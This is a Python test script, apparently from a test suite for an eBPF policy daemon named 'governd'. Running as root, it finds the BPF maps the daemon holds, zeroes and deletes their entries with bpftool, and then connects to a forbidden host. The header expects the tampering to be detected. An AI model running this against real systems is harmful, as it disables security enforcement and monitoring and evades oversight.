#!/usr/bin/python3
# id: f05b_map_write_by_id
# title: root overwrites every map that governd holds, by id
# needs: root
# stage: own
# expect: detect
# why: as f05, for maps that are not pinned
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import glob, re, subprocess
def f():
    p = E('GOVERND_PID')
    ids = sorted({m[1] for i in glob.glob(f'/proc/{p}/fdinfo/*') for m in [re.search(r'^map_id:\s*(\d+)', open(i).read(), re.M)] if m}) if p else []
    for n in ids:
        o = subprocess.run(['bpftool', '-j', 'map', 'dump', 'id', n], capture_output=True, text=True, timeout=20)
        try: entries = json.loads(o.stdout or '[]')
        except ValueError: continue
        for e in entries[:64] if isinstance(entries, list) else []:
            if 'key' not in e or 'value' not in e: continue
            key = [x[2:] for x in e['key']]
            subprocess.run(['bpftool', 'map', 'update', 'id', n, 'key', 'hex'] + key + ['value', 'hex'] + ['00'] * len(e['value']), stderr=subprocess.DEVNULL)
            subprocess.run(['bpftool', 'map', 'delete', 'id', n, 'key', 'hex'] + key, stderr=subprocess.DEVNULL)
    s = socket.socket(); s.settimeout(3); s.connect((FORB, P_TCP)); talk(s)
attempt(f, line_before=True)
